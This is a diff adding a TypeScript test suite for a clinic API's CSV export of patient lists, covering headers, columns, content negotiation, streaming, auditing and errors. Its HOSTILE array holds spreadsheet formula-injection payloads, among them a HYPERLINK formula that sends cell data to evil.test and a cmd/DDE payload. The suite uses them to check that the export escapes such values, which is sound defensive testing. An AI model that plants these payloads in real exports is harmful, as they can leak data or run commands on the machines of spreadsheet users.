@@ -1,0 +1,345 @@
+import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
+import { env } from "cloudflare:workers";
+import { parse } from "csv-parse/sync";
+import { afterEach, beforeAll, describe, expect, test, vi } from "vitest";
+import { expectToMatchDescription } from "../../../../test/description.ts";
+import {
+  type Answer,
+  type Caller,
+  countRows,
+  type GivenClinic,
+  givenClinic,
+  givenPatient,
+  givenSite,
+  givenTag,
+  rows,
+  send,
+  UNKNOWN_ID,
+} from "../../../../test/harness.ts";
+import { givenSummary, statsWith } from "../../../../test/summaries.ts";
+import { createApp } from "../../../entry/app.ts";
+import { TABLE_COLUMNS } from "./table.ts";
+
+const CSV = { accept: "text/csv" };
+const HOSTILE = [
+  '=HYPERLINK("http://evil.test/?"&A1,"x")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1)",
+  "\t=1",
+  "\r=1",
+  "  =1",
+  "＝1+1",
+  'Quo"ted, "name"',
+  "Two\r\nlines",
+  "x;=1+1",
+  "Ána Łuñez 李 𝒳",
+  "'already",
+];
+
+let clinic: GivenClinic;
+const table = (query = "", caller: Caller = clinic.member, headers: Record<string, string> = CSV) =>
+  caller.get(`${clinic.path}/patients${query}`, headers);
+
+/** The lines of an answer by their columns, as another program reads them. */
+const linesOf = (answer: Answer): Record<string, string>[] =>
+  parse(answer.text, { columns: true, relax_column_count: false, bom: true });
+
+beforeAll(async () => {
+  clinic = await givenClinic({ country: "CA" });
+  await rows("DELETE FROM patients WHERE clinic_id = ?", clinic.clinicId);
+  const tag = await givenTag(clinic, "+Tag");
+  const other = await givenTag(clinic, "Pump");
+  const site = await givenSite(clinic, "East, wing");
+  const first = await givenPatient(clinic, {
+    fullName: "Ada",
+    birthDate: "1987-02-03",
+    mrn: "-17",
+    email: "ada@table.test",
+    tags: [tag.id, other.id],
+    sites: [site],
+    diagnosisType: "type1",
+  });
+  await givenSummary(clinic.clinicId, first.id, {
+    cgmStats: await statsWith(
+      "cgm",
+      { timeInTargetPercent: 0.625, timeInTargetPercentDelta: -0.125, averageGlucoseMmol: 8.25 },
+      { dates: { lastData: "2026-05-01T10:00:00.000Z" } },
+    ),
+    bgmStats: await statsWith("bgm", { totalRecords: 12 }, { period: "7d" }),
+  });
+  await rows("UPDATE patients SET last_reviewed_at = 1000 WHERE user_id = ?", first.id);
+  for (const [i, fullName] of HOSTILE.entries()) await givenPatient(clinic, { fullName, mrn: `M${i}` });
+});
+
+afterEach(() => void vi.restoreAllMocks());
+
+describe("ListPatients with Accept: text/csv", () => {
+  test("200 a file to be saved, under a name that says nothing of anybody", async () => {
+    const answer = await table();
+    expect(answer.status).toBe(200);
+    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="patients-\d{4}-\d\d-\d\d\.csv"$/);
+    expect(answer.headers.get("cache-control")).toBe("no-store");
+    expect(answer.headers.get("vary")?.toLowerCase()).toContain("accept");
+  });
+
+  test("begins with a byte order mark and the names of the columns", async () => {
+    const response = await send("GET", `${clinic.path}/patients`, { token: clinic.member.token, headers: CSV });
+    expect(response.text.startsWith("\ufeff") ? response.text.slice(1) : response.text).toMatch(
+      /^id,fullName,birthDate,mrn,/,
+    );
+    const raw = await bytesOf(`${clinic.path}/patients`);
+    expect(Array.from(raw.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
+    expect(Object.keys(linesOf(response)[0]!)).toEqual(TABLE_COLUMNS);
+  });
+
+  test("shows a patient with names of tags and sites, and the statistics of the asked period", async () => {
+    const [ada] = linesOf(await table("?search=ada@table"));
+    expect(ada).toMatchObject({
+      fullName: "Ada",
+      birthDate: "1987-02-03",
+      mrn: "'-17",
+      email: "ada@table.test",
+      tags: "'+Tag; Pump",
+      sites: "East, wing",
+      diagnosisType: "type1",
+      lastReviewed: "1970-01-01T00:00:01.000Z",
+      "cgm.lastData": "2026-05-01T10:00:00.000Z",
+      "bgm.lastData": "",
+      period: "14d",
+      "cgm.timeInTargetPercent": "0.625",
+      "cgm.averageGlucoseMmol": "8.25",
+      "cgm.glucoseManagementIndicator": "",
+      "bgm.totalRecords": "",
+    });
+    const [week] = linesOf(await table("?search=ada@table&period=7d"));
+    expect(week).toMatchObject({ period: "7d", "cgm.timeInTargetPercent": "", "bgm.totalRecords": "12" });
+  });
+
+  test("leaves numbers numbers, negative ones too", async () => {
+    const [ada] = linesOf(await table("?search=ada@table"));
+    expect(ada!["cgm.timeInTargetPercentDelta"]).toBe("-0.125");
+  });
+
+  test("holds every patient once, however hostile the name, and no cell that a spreadsheet runs", async () => {
+    const lines = linesOf(await table());
+    const byMrn = new Map(lines.map((line) => [line.mrn, line.fullName]));
+    expect(lines).toHaveLength(HOSTILE.length + 1);
+    for (const [i, name] of HOSTILE.entries()) {
+      const shown = byMrn.get(`M${i}`)!;
+      expect(shown.replaceAll("'", "")).toBe(name.replaceAll("'", ""));
+      expect(shown).not.toMatch(/^[\s\ufeff]*[=+\-@＝]|^[\t\r]|[;\t\r\n]\s*[=+\-@＝]/u);
+    }
+    expect(byMrn.get("M11")).toBe("Ána Łuñez 李 𝒳");
+    expect(byMrn.get("M12")).toBe("'already");
+    const numbers = new Set(TABLE_COLUMNS.slice(TABLE_COLUMNS.indexOf("period") + 1));
+    for (const line of lines)
+      for (const [name, cell] of Object.entries(line)) if (!numbers.has(name)) expect(cell).not.toMatch(/^[=+\-@＝]/);
+  });
+
+  test.each(["", "?sort=-fullName&sortType=cgm", "?sort=%2BbirthDate&sortType=bgm", "?cgm.timeInTargetPercent=%3E0.5"])(
+    "has the patients of the JSON list in its order, whatever offset and limit: %s",
+    async (query) => {
+      const json = await table(`${query || "?"}&limit=1000`, clinic.member, {});
+      const lines = linesOf(await table(`${query || "?"}&offset=2&limit=1`));
+      expect(lines.map(({ id }) => id)).toEqual(json.body.data.map(({ id }: { id: string }) => id));
+    },
+  );
+
+  test("200 the header alone where nobody matches, and for a clinic that is none", async () => {
+    expect(linesOf(await table("?search=nobody-at-all"))).toEqual([]);
+    const none = await clinic.service.get(`/v1/clinics/${UNKNOWN_ID}/patients`, CSV);
+    expect([none.status, none.text.trim().split("\r\n")]).toEqual([200, [expect.stringContaining("id,fullName")]]);
+  });
+
+  test.each([
+    ["an outsider", () => clinic.outsider, "", 403],
+    ["a clinician who only prescribes", () => clinic.prescriber, "", 403],
+    ["a page that can't be", () => clinic.member, "?limit=0", 400],
+    ["a sort without its type", () => clinic.member, "?sort=-fullName", 400],
+    ["a filter that is none", () => clinic.member, "?cgm.max=1", 400],
+  ])("%s gets the usual refusal as JSON, and no file", async (_, caller, query, status) => {
+    const answer = await table(query, caller());
+    expect([answer.status, answer.body.code]).toEqual([status, status]);
+    expect(answer.headers.get("content-disposition")).toBeNull();
+  });
+
+  test("an audit row is written for every patient in the file", async () => {
+    const requestId = `csv-audit-${Date.now()}`;
+    const lines = linesOf(await table("", clinic.member, { ...CSV, "x-request-id": requestId }));
+    const where =
+      "audit_log WHERE request_id = ? AND outcome = 'read' AND operation = 'ListPatients' AND clinic_id = ?";
+    await vi.waitFor(async () => expect(await countRows(where, requestId, clinic.clinicId)).toBe(lines.length), {
+      timeout: 10_000,
+      interval: 100,
+    });
+  });
+});
+
+describe("the media type of a list of patients", () => {
+  test.each([
+    [undefined, "application/json"],
+    ["*/*", "application/json"],
+    ["application/json", "application/json"],
+    ["text/csv", "text/csv"],
+    ["TEXT/CSV", "text/csv"],
+    ["text/*", "text/csv"],
+    ["text/csv; charset=utf-8", "text/csv"],
+    ["application/json, text/csv", "application/json"],
+    ["text/csv, application/json", "application/json"],
+    ["text/csv, */*", "text/csv"],
+    ["text/csv, application/json;q=0.9", "text/csv"],
+    ["text/csv;q=0.5, application/json", "application/json"],
+    ["text/csv;q=0.1, */*", "application/json"],
+    ["text/csv;q=0, */*", "application/json"],
+    ["text/csv;q=0", "application/json"],
+    ["application/json;q=0, */*;q=0.1", "text/csv"],
+    ["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"],
+    ["text/html", "application/json"],
+    ["nonsense;;q=x,,", "application/json"],
+  ])("for %s is %s", async (accept, type) => {
+    const answer = await table("?limit=1", clinic.member, accept === undefined ? {} : { accept });
+    expect([answer.status, answer.headers.get("content-type")?.split(";")[0]]).toEqual([200, type]);
+  });
+});
+
+describe("a long table", () => {
+  const PATIENTS = 2500;
+  let large: GivenClinic;
+  beforeAll(async () => {
+    large = await givenClinic({ country: "CA" });
+    await rows("DELETE FROM patients WHERE clinic_id = ?", large.clinicId);
+    await rows(
+      `WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ${PATIENTS})
+       INSERT INTO patients (clinic_id, user_id, full_name, name_key, mrn_unique, search_rest, tags, sites, reviews, is_migrated, is_demo,
+         counts_to_plan, cgm_has_other_periods, bgm_has_other_periods, version, created_at, updated_at)
+       SELECT ?, printf('%010x', 800000000000 + i), 'P ' || i, printf('p %05d', i), 0, '', '[]', '[]', '[]', 0, 0, 1, 0, 0, 1, 1, 1 FROM n`,
+      large.clinicId,
+    );
+  });
+
+  /** The table served with a database that does something else before each batch: the finding is 0, its parts 1 to 3. */
+  async function servedWith(before: (part: number) => Promise<void> | void, replaced: Record<string, unknown> = {}) {
+    let parts = 0;
+    let isPart = false;
+    let isFinding = false;
+    const session = env.DB.withSession("first-primary");
+    const DB = {
+      withSession: () => ({
+        prepare(text: string) {
+          isPart ||= text.includes("AS wanted");
+          isFinding ||= text.includes("json_group_array");
+          return session.prepare(text);
+        },
+        getBookmark: () => session.getBookmark(),
+        async batch(statements: D1PreparedStatement[]) {
+          const part = isPart ? ++parts : isFinding ? 0 : undefined;
+          isPart = isFinding = false;
+          if (part !== undefined) await before(part);
+          return session.batch(statements);
+        },
+      }),
+    };
+    const ctx = createExecutionContext();
+    const request = new Request(`http://clinics.test${large.path}/patients`, {
+      headers: { ...CSV, "x-tidepool-session-token": large.member.token },
+    });
+    const response = await createApp().fetch(request, { ...env, ...replaced, DB }, ctx);
+    return { response, settled: () => waitOnExecutionContext(ctx), parts: () => parts };
+  }
+
+  test("comes in parts of a thousand, each read from the database when it is asked for", async () => {
+    const { response, settled, parts } = await servedWith(() => {});
+    const reader = response.body!.getReader();
+    const decoder = new TextDecoder();
+    expect(parts()).toBe(1);
+    let text = decoder.decode((await reader.read()).value, { stream: true });
+    expect([parts(), text.split("\r\n").length - 2]).toEqual([1, 1000]);
+    text += decoder.decode((await reader.read()).value, { stream: true });
+    expect([parts(), text.split("\r\n").length - 2]).toEqual([2, 2000]);
+    for (let next = await reader.read(); !next.done; next = await reader.read()) text += decoder.decode(next.value);
+    await settled();
+    const lines = parse(text, { columns: true, bom: true }) as Record<string, string>[];
+    expect(lines.map(({ fullName }) => fullName)).toEqual(Array.from({ length: PATIENTS }, (_, i) => `P ${i + 1}`));
+    expect(parts()).toBe(3);
+  });
+
+  test("503 as JSON when the database fails before anything was sent", async () => {
+    for (const failing of [0, 1]) {
+      const { response, settled } = await servedWith((part) => {
+        if (part === failing) throw new Error("D1_ERROR: Network connection lost.");
+      });
+      expect([response.status, response.headers.get("content-disposition")]).toEqual([503, null]);
+      expect(await response.json()).toMatchObject({ code: 503 });
+      await settled();
+    }
+  });
+
+  test("breaks off when the database fails later: whoever reads is told, and the log without a name", async () => {
+    const logged = vi.spyOn(console, "log");
+    const { response, settled } = await servedWith((part) => {
+      if (part === 2) throw new Error("D1_ERROR: Network connection lost. P 1001");
+    });
+    expect(response.status).toBe(200);
+    await expect(response.text()).rejects.toThrow("the rest could not be made");
+    await settled();
+    const broken = logged.mock.calls.map(([line]) => String(line)).filter((line) => line.includes("stream broken"));
+    expect(broken).toHaveLength(1);
+    expect(JSON.parse(broken[0]!)).toMatchObject({
+      level: "error",
+      operation: "ListPatients",
+      clinicId: large.clinicId,
+    });
+    expect(broken[0]).not.toContain("P 1001");
+  });
+
+  test("leaves out who leaves the clinic meanwhile, and audits only who was read", async () => {
+    const sent: { patientIds: string[] }[] = [];
+    const AUDIT_QUEUE = {
+      async sendBatch(messages: { body: { patientIds: string[] } }[]) {
+        sent.push(...messages.map(({ body }) => body));
+      },
+    };
+    const { response, settled } = await servedWith(() => {}, { AUDIT_QUEUE });
+    const reader = response.body!.getReader();
+    const decoder = new TextDecoder();
+    let text = decoder.decode((await reader.read()).value, { stream: true });
+    await rows("DELETE FROM patients WHERE clinic_id = ? AND full_name = 'P 1500'", large.clinicId);
+    for (let next = await reader.read(); !next.done; next = await reader.read()) {
+      text += decoder.decode(next.value, { stream: true });
+    }
+    const lines = parse(text, { columns: true, bom: true }) as Record<string, string>[];
+    await settled();
+    expect(lines).toHaveLength(PATIENTS - 1);
+    expect(sent.map(({ patientIds }) => patientIds.length)).toEqual([1000, 999, 500]);
+    expect(new Set(sent.flatMap(({ patientIds }) => patientIds))).toEqual(new Set(lines.map(({ id }) => id)));
+  });
+});
+
+async function bytesOf(path: string): Promise<Uint8Array> {
+  const ctx = createExecutionContext();
+  const request = new Request(`http://clinics.test${path}`, {
+    headers: { ...CSV, "x-tidepool-session-token": clinic.member.token },
+  });
+  const response = await createApp().fetch(request, env, ctx);
+  const bytes = new Uint8Array(await response.arrayBuffer());
+  await waitOnExecutionContext(ctx);
+  return bytes;
+}
+
+test("docs/patient-table.md explains every column, in their order", async () => {
+  const [text] = Object.values(
+    import.meta.glob<string>(["../../../docs/patient-table.md"], { query: "?raw", import: "default", eager: true }),
+  );
+  const explained = [...text!.matchAll(/^\| `([\w.]+)` \|/gm)].map(([, name]) => name);
+  expect(explained).toEqual(TABLE_COLUMNS);
+  expect(() =>
+    expectToMatchDescription("GET", `/v1/clinics/${UNKNOWN_ID}/patients`, {
+      status: 200,
+      body: undefined,
+      text: "x",
+      headers: new Headers({ "content-type": "text/plain" }),
+    }),
+  ).toThrow("does not document text/plain");
+});
